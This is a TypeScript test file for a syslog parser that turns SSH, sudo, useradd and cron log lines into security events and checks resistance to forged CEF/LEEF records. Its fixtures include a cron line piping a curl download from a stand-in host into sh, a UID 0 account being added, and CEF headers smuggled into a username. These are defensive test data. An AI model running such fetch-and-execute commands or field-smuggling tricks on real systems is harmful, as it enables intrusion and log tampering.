import assert from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import { entitiesOf } from "../../core/observable/entities.ts";
import { oneEvent, readBytes, testFormat } from "../../testing/format-contract.ts";
import { structuredData } from "./structured-data.ts";

const modifiedMs = Date.UTC(2026, 1, 3, 12);
testFormat(
  import.meta.url,
  { "auth.log": { format: "syslog", events: 9, rejected: 1 }, "modern.log": { format: "syslog", events: 4, rejected: 1 } },
  { modifiedMs },
);

describe("what programs say", () => {
  const said: Record<string, readonly [action: string, service: string, fields: Record<string, string>]> = {
    "sshd[9]: Failed password for invalid user admin from 198.51.100.7 port 40112 ssh2": [
      "login-failed",
      "sshd",
      { user: "admin", src_ip: "198.51.100.7", method: "password" },
    ],
    "sshd[9]: Failed password for root from 2001:db8::7 port 40112 ssh2": ["login-failed", "sshd", { user: "root", src_ip: "2001:db8::7" }],
    "sshd-session[9]: Accepted password for alice from 192.0.2.9 port 5 ssh2": [
      "login-accepted",
      "sshd",
      { user: "alice", src_ip: "192.0.2.9", method: "password" },
    ],
    "sshd[9]: Invalid user x from y from 192.0.2.9 port 5": ["invalid-user", "sshd", { src_ip: "192.0.2.9", user: "x from y" }],
    "sshd[9]: Disconnected from authenticating user root 192.0.2.9 port 5 [preauth]": [
      "disconnected",
      "sshd",
      { user: "root", src_ip: "192.0.2.9" },
    ],
    "sudo: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c id": [
      "sudo-command",
      "sudo",
      { user: "alice", target_user: "root", command: "/bin/sh -c id" },
    ],
    "sudo: bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh": [
      "sudo-denied",
      "sudo",
      { user: "bob", command: "/bin/sh" },
    ],
    "su: (to root) alice on pts/1": ["su", "auth", { user: "alice", target_user: "root" }],
    "su[4]: FAILED SU (to root) alice on pts/1": ["su-failed", "auth", { user: "alice", target_user: "root" }],
    "useradd[5]: new user: name=x, UID=0, GID=0, home=/root, shell=/bin/sh": [
      "user-added",
      "auth",
      { user: "x", uid: "0", shell: "/bin/sh" },
    ],
    "usermod[5]: add 'x' to group 'sudo'": ["group-joined", "syslog", { user: "x", group: "sudo" }],
    "CRON[6]: (root) CMD (curl http://example.test/x | sh)": [
      "cron-command",
      "cron",
      { user: "root", command: "curl http://example.test/x | sh" },
    ],
    "passwd[7]: pam_unix(passwd:chauthtok): password changed for alice": ["password-changed", "auth", { user: "alice" }],
    "kernel: [ 1.0] something else": ["message", "syslog", {}],
  };
  for (const [text, [action, service, fields]] of Object.entries(said))
    test(text, async () => {
      const event = await oneEvent(`Feb  3 10:11:12 web01 ${text}\n`, { modifiedMs });
      assert.equal(event.action, action);
      if (action !== "group-joined") assert.deepEqual(event.logSource, { product: "linux", service });
      assert.equal(event.host, "web01");
      for (const [name, value] of Object.entries(fields)) assert.equal(event.fields[name], value, name);
    });
});

describe("a line without a year", () => {
  const yearOf = async (line: string, hints: { modifiedMs?: number }) => new Date((await oneEvent(line, hints)).timeMs).getUTCFullYear();

  test("is of the latest year in which it is not younger than its file", async () => {
    assert.equal(await yearOf("Jan  2 00:00:00 h p: m", { modifiedMs: Date.UTC(2026, 0, 3) }), 2026);
    assert.equal(await yearOf("Dec 31 23:59:59 h p: m", { modifiedMs: Date.UTC(2026, 0, 3) }), 2025);
    assert.equal(await yearOf("Feb 29 00:00:00 h p: m", { modifiedMs: Date.UTC(2026, 0, 3) }), 2024);
  });

  test("is of the year that a line before it gave, and without one says that its year is assumed", async () => {
    const { records } = await readBytes("2023-05-06T07:08:09Z h p: m\nMay  7 00:00:00 h p: m\n");
    const [, second] = records;
    assert.ok(second?.kind === "event");
    assert.equal(second.event.timeMs, Date.UTC(2023, 4, 7));
    assert.equal(second.event.fields.year_assumed, undefined);
    const alone = await oneEvent("May  7 00:00:00 h p: m\n");
    assert.equal(alone.fields.year_assumed, true);
    assert.equal(alone.timeMs, Date.UTC(1972, 4, 7));
  });
});

test("RFC 5424 keeps priority, ids and structured data with its escapes", async () => {
  const line = '<165>1 2026-02-03T10:11:13+01:00 h app 8710 ID48 [x@32473 a="q\\"b\\\\c\\]" b="\\n"][y b="1" b="2"] \uFEFFtext [z]';
  const event = await oneEvent(line);
  assert.deepEqual(
    { ...event.fields },
    {
      hostname: "h",
      program: "app",
      pid: "8710",
      msgid: "ID48",
      facility: "local4",
      severity: "notice",
      "x@32473.a": 'q"b\\c]',
      "x@32473.b": "\\n",
      "y.b": ["1", "2"],
      message: "text [z]",
    },
  );
});

test("structured data says user and addresses in plain fields too", async () => {
  const event = await oneEvent(
    '<36>1 2026-02-03T10:11:13Z vpn01 vpnd 8 CONNECT [session@32473 User-Name="s.uribe" src="203.0.113.150" dst="mail" assigned="10.20.9.77"] up',
  );
  const { user, src_ip, dst_ip, assigned_ip } = event.fields;
  assert.deepEqual(
    { user, src_ip, dst_ip, assigned_ip },
    { user: "s.uribe", src_ip: "203.0.113.150", dst_ip: undefined, assigned_ip: "10.20.9.77" },
  );
  assert.deepEqual(
    entitiesOf(event).map(({ type, value }) => `${type}:${value}`),
    ["host:vpn01", "user:s.uribe", "ip:203.0.113.150", "ip:10.20.9.77"],
  );
});

test("what the message itself says of its user is not replaced", async () => {
  const event = await oneEvent(
    '<86>1 2026-02-03T10:11:13Z web01 sshd 9 - [meta user="collector" src="192.0.2.1"] Failed password for root from 198.51.100.7 port 1 ssh2',
  );
  assert.deepEqual([event.fields.user, event.fields.src_ip], ["root", "198.51.100.7"]);
});

// Guarantees that structured data comes back as it was written, whatever the values hold.
test("structured data is read as it was written", () => {
  const name = fc.stringMatching(/^[A-Za-z0-9@._-]{1,32}$/);
  const escaped = (value: string) => value.replace(/["\\\]]/g, (sign) => `\\${sign}`);
  fc.assert(
    fc.property(
      fc.dictionary(name, fc.dictionary(name, fc.string(), { maxKeys: 4 }), { minKeys: 1, maxKeys: 4 }),
      fc.string(),
      (data, message) => {
        const text = Object.entries(data)
          .map(
            ([id, parameters]) =>
              `[${id}${Object.entries(parameters)
                .map(([key, value]) => ` ${key}="${escaped(value)}"`)
                .join("")}]`,
          )
          .join("");
        const found = structuredData(`${text} ${message}`);
        assert.ok(found);
        const back = Object.entries(data).map(([id, parameters]) => [id, Object.entries(parameters).map(([key, value]) => [key, [value]])]);
        assert.deepEqual(
          [...(found.structured ?? [])].map(([id, parameters]) => [id, [...parameters]]),
          back,
        );
        assert.equal(found.rest, message.replace(/^\uFEFF/, ""));
      },
    ),
  );
});

test("entities of a login are its user, its address and its machine", async () => {
  const event = await oneEvent("Feb  3 10:11:12 web01 sshd[9]: Failed password for root from 198.51.100.7 port 1 ssh2");
  assert.deepEqual(
    entitiesOf(event).map(({ type, value }) => `${type}:${value}`),
    ["host:web01", "user:root", "ip:198.51.100.7"],
  );
});

test("a record that somebody's words forge within a program's message stays a message of that program", async () => {
  const frame = "Mar  9 10:11:12 web01";
  for (const [words, dataset] of [
    ["sshd[1201]: Failed password for invalid user CEF:0|a|b|1|2|closed|0|msg=x from 198.51.100.7 port 40000 ssh2", "syslog"],
    ["nginx: GET /LEEF:1.0|a|b|1|c|src=10.0.0.1", "syslog"],
    ["CEF:0|Example|Proxy|1|2|allow|1|src=10.0.0.1", "cef"],
    ["agent[7]: CEF:0|Example|Proxy|1|2|allow|1|src=10.0.0.1", "cef"],
    ["relayed by gw CEF:0|Example|Proxy|1|2|allow|1|src=10.0.0.1", "cef"],
  ] as const) {
    assert.equal((await oneEvent(`${frame} ${words}\n`)).dataset, dataset, words);
  }
});
